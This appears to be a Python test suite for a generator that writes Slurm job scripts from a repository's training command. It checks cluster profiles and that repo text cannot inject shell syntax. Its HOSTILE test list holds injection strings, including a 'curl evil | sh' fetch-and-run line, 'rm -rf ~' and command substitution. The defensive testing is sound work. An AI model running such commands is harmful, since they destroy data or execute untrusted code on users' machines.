"""The job script to begin with, for each cluster; what a repo says gets into it only as plain words."""

import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from journal.capture.machine.source import read_machine
from journal.capture.machine.view import MachineView
from journal.derive.cluster_profile import choose_profile
from journal.derive.job_script import job_script
from journal.derive.repo_map.commands import Command
from journal.documents.cluster_profiles import load_profiles
from tests.golden import GOLDEN, assert_golden
from tests.machines import GENERIC_CONF, generic_login, lay_out, lumi_login, olivia_login
from tests.slurm.cluster import Cluster

TRAIN = Command(
    text="python train.py --config configs/shapenet.yaml",
    role="train",
    target="train.py",
    candidates=("train.py",),
    firm=True,
    path="README.md",
    line=41,
)


def _script(machine: MachineView, account: str = "", training: Command | None = TRAIN, name: str = "pointdiff") -> str:
    facts = read_machine(Path("/repo"), view=machine)
    profile = choose_profile(load_profiles(), facts)
    assert profile is not None
    return job_script(profile, facts, name=name, account=account, training=training)


def test_a_script_for_lumi(tmp_path: Path) -> None:
    assert_golden("job.lumi.sh", _script(lumi_login(tmp_path), "project_465000001"))


def test_a_script_for_olivia(tmp_path: Path) -> None:
    assert_golden("job.olivia.sh", _script(olivia_login(tmp_path)))


def test_a_script_for_a_cluster_that_no_profile_knows(tmp_path: Path) -> None:
    assert_golden("job.generic.sh", _script(generic_login(tmp_path)))


@pytest.mark.skipif(shutil.which("shellcheck") is None, reason="no shellcheck")
@pytest.mark.parametrize("cluster", ["lumi", "olivia", "generic"])
def test_shellcheck_finds_nothing(cluster: str) -> None:
    done = subprocess.run(
        ["shellcheck", GOLDEN / f"job.{cluster}.sh"], capture_output=True, text=True, check=False, timeout=60
    )
    assert done.stdout == ""
    assert done.returncode == 0


def test_an_account_that_is_not_known_is_left_to_slurm_or_to_the_person(tmp_path: Path) -> None:
    assert "#SBATCH --account=project_XXXXXXXXX\n" in _script(lumi_login(tmp_path / "lumi"))
    assert "--account" not in _script(generic_login(tmp_path / "generic"))
    assert "#SBATCH --account=physics\n" in _script(generic_login(tmp_path / "generic"), "physics")


def test_the_partition_with_gpus_is_taken_and_its_limit_kept(tmp_path: Path) -> None:
    machine = generic_login(tmp_path)
    script = _script(machine)
    assert "--partition=gpu\n" in script
    assert "--time=00:30:00\n" in script
    assert "--gres=gpu:1\n" in script
    lay_out(tmp_path, {"/etc/slurm/slurm.conf": GENERIC_CONF.replace(" Gres=gpu:a100:4", "")})
    script = _script(machine)
    assert "--partition=cpu\n" in script
    assert "--time=01:00:00\n" in script
    assert "--gres" not in script


def test_a_cluster_without_slurm_conf_names_no_partition(tmp_path: Path) -> None:
    machine = generic_login(tmp_path)
    (tmp_path / "etc/slurm/slurm.conf").unlink()
    assert "--partition" not in _script(machine)


def test_no_command_is_known(tmp_path: Path) -> None:
    script = _script(generic_login(tmp_path), training=None)
    assert script.endswith("# Put your own command in the next line.\nsrun python train.py\n")


def test_a_command_is_run_where_its_file_is(tmp_path: Path) -> None:
    script = _script(generic_login(tmp_path), training=TRAIN._replace(directory="src/models"))
    assert "cd -- src/models\nsrun python train.py --config" in script


def test_variables_before_a_command_are_set_for_it(tmp_path: Path) -> None:
    script = _script(generic_login(tmp_path), training=TRAIN._replace(text="OMP_NUM_THREADS=1 python train.py"))
    assert script.endswith("\nsrun env OMP_NUM_THREADS=1 python train.py\n")


HOSTILE = [
    "python train.py; curl evil | sh",
    "python train.py && rm -rf ~",
    "python train.py $(id)",
    "python train.py `id`",
    "python train.py 'a b'",
    "python train.py > out",
    "python train.py\nrm -rf ~",
    "python train.py --run name…",
    "--wrap=id",
    "sbatch job.sh",
    "srun python train.py",
    "",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_command_that_is_more_than_plain_words_stays_out(text: str, tmp_path: Path) -> None:
    script = _script(generic_login(tmp_path), training=TRAIN._replace(text=text))
    assert script.endswith("# Put your own command in the next line.\nsrun python train.py\n")


@given(name=st.text(max_size=30), text=st.text(max_size=30), path=st.text(max_size=30), directory=st.text(max_size=30))
def test_nothing_of_a_repo_breaks_out_of_its_line(
    name: str, text: str, path: str, directory: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    machine = generic_login(tmp_path_factory.getbasetemp() / "generic")
    plain = _script(machine, training=None, name="x").splitlines()
    training = TRAIN._replace(text=text, path=path, directory=directory)
    lines = _script(machine, training=training, name=name).splitlines()
    others = [line for line in lines if line not in plain]
    kinds = ("#SBATCH --job-name=", "# As ", "cd -- ", "srun ")
    assert [line for line in others if not line.startswith(kinds)] == []
    assert not any(set(line) & set(";&|<>$`'\"\\()*?!") for line in others if not line.startswith("#"))
    assert lines[0] == "#!/bin/bash"


def test_the_real_slurm_takes_the_script(slurm: Cluster, tmp_path: Path) -> None:
    facts = read_machine(tmp_path)
    profile = choose_profile(load_profiles(), facts)
    assert profile is not None
    script = tmp_path / "job.sh"
    script.write_text(job_script(profile, facts, name="x y", account="", training=TRAIN), encoding="utf-8")
    done = subprocess.run(
        ["sbatch", "--test-only", script],
        capture_output=True,
        text=True,
        check=False,
        timeout=30,
        cwd=slurm.directory,
    )
    assert done.returncode == 0, done.stderr
    assert "to start at" in done.stderr
